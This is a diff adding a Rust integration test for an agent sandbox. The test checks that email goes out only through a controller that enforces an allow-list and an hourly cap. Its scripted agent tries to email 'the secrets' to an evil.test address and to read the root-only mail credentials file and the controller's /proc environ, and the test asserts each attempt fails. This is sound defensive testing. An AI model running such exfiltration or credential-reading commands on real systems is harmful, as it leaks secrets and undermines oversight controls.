@@ -996,3 +996,99 @@ fn a_governed_root_task_cannot_run_code_around_the_exec_rules() {
         "{records:?}"
     );
 }
+
+/// The himalaya the broker sends through: `$SENTRA_HIMALAYA`, else the one `scripts/setup.sh` builds.
+fn himalaya() -> std::path::PathBuf {
+    let path = std::env::var_os("SENTRA_HIMALAYA").map_or_else(
+        || {
+            let cache = std::env::var("SENTRA_CACHE").unwrap_or_else(|_| "/var/cache/sentra-dev".into());
+            Path::new(&cache).join("himalaya/bin/himalaya")
+        },
+        std::path::PathBuf::from,
+    );
+    assert!(path.exists(), "himalaya not found at {} (scripts/setup.sh builds it)", path.display());
+    path
+}
+
+#[test]
+fn email_is_sent_by_the_controller_under_the_policy_with_credentials_the_agent_cannot_read() {
+    use sentra_tests::smtp_sink::SmtpSink;
+    const PASSWORD: &str = "s3cret-mail-PASSWORD";
+    let sink = SmtpSink::start();
+    // The mail account, as the installer writes it: root's alone, in a directory only root enters.
+    let creds = tempfile::Builder::new().prefix("sentra-mail-").tempdir_in("/tmp").expect("tempdir");
+    std::fs::set_permissions(creds.path(), std::fs::Permissions::from_mode(0o700)).expect("chmod");
+    let config = creds.path().join("himalaya.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[accounts.test]\ndefault = true\nemail = \"agent@sentra.test\"\nsmtp.server = \"smtp://{}\"\nsmtp.sasl.plain.username = \"agent@sentra.test\"\nsmtp.sasl.plain.password.raw = \"{PASSWORD}\"\n",
+            sink.addr
+        ),
+    )
+    .expect("write the account");
+    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o600)).expect("chmod");
+    let sections = format!(
+        "email:\n  from: agent@sentra.test\n  recipients: [\"*@allowed.test\"]\n  per_hour: 2\n  config: {}\n  himalaya: {}\n",
+        config.display(),
+        himalaya().display()
+    );
+    let s = Scene::start_with("email", "  user: \"65534\"", &sections, "");
+    let email_bin = sentra_ctl().with_file_name("sentra-email");
+    for name in ["email", "send-email"] {
+        std::os::unix::fs::symlink(&email_bin, s.dir.path().join("bin").join(name)).expect("symlink");
+    }
+    let bin = s.dir.path().join("bin");
+    let controller = s.daemon.child.as_ref().map(std::process::Child::id).expect("controller pid");
+    let script = format!(
+        "B={bin}; \
+         $B/email bob@allowed.test 'Hello' 'Body one'; echo rc1=$?; \
+         $B/send-email carol@evil.test 'Leak' 'the secrets'; echo rc2=$?; \
+         $B/email --to dave@allowed.test --subject 'Two' --body 'Body two'; echo rc3=$?; \
+         $B/email erin@allowed.test 'Three' 'over the cap'; echo rc4=$?; \
+         cat {config}; echo cat=$?; \
+         cat /proc/{controller}/environ; echo environ=$?",
+        bin = bin.display(),
+        config = config.display(),
+    );
+    let out = s.launch(&[], &["spawn", "/bin/sh", "-c", &format!("{{ {script}; }} 2>&1")]);
+    let text = stdout(&out);
+    assert!(text.contains("Email sent to bob@allowed.test\nrc1=0"), "{out:?}");
+    assert!(text.contains("[X] DENIED: email to carol@evil.test\n    Rule: email.recipients\n"), "{out:?}");
+    assert!(text.contains("rc2=1") && text.contains("rc3=0"), "{out:?}");
+    assert!(text.contains("Rule: email.per_hour") && text.contains("rc4=1"), "{out:?}");
+    assert!(
+        !text.contains("cat=0") && !text.contains("environ=0"),
+        "the agent read the broker's secrets: {out:?}"
+    );
+    assert!(!text.contains(PASSWORD), "{out:?}");
+
+    let mails = sink.wait_for(2, Duration::from_secs(5));
+    assert_eq!(mails.len(), 2, "{mails:?}");
+    assert_eq!(
+        mails[0].auth,
+        Some(("agent@sentra.test".into(), PASSWORD.into())),
+        "the broker authenticated"
+    );
+    assert_eq!(mails[0].mail_from, "agent@sentra.test");
+    assert_eq!(mails[0].rcpt_to, ["bob@allowed.test"]);
+    assert!(mails[0].data.contains("Subject: Hello") && mails[0].data.contains("Body one"), "{mails:?}");
+    assert_eq!(mails[1].rcpt_to, ["dave@allowed.test"]);
+
+    let records =
+        s.wait_for("four e-mail records", |r| r.iter().filter(|r| r["event"] == "email").count() >= 4);
+    let email: Vec<&Value> = records.iter().filter(|r| r["event"] == "email").collect();
+    let sent: Vec<&&Value> = email.iter().filter(|r| r["decision"] == "allowed").collect();
+    assert_eq!(sent.len(), 2, "{email:?}");
+    assert!(
+        sent.iter().all(|r| r["detail"]["delivered"] == true && r["rule_id"] == "email.recipients[0]"),
+        "{sent:?}"
+    );
+    assert_eq!(sent[0]["detail"]["to"], serde_json::json!(["bob@allowed.test"]));
+    assert_eq!(sent[0]["detail"]["subject"], "Hello");
+    assert!(sent[0]["detail"]["bytes"].as_u64().is_some_and(|b| b > 0), "{sent:?}");
+    let denied: Vec<&str> =
+        email.iter().filter(|r| r["decision"] == "denied").filter_map(|r| r["rule_id"].as_str()).collect();
+    assert_eq!(denied, ["email.recipients", "email.per_hour"], "{email:?}");
+    assert!(email.iter().all(|r| r["reported_by"]["uid"] == 65534), "{email:?}");
+}
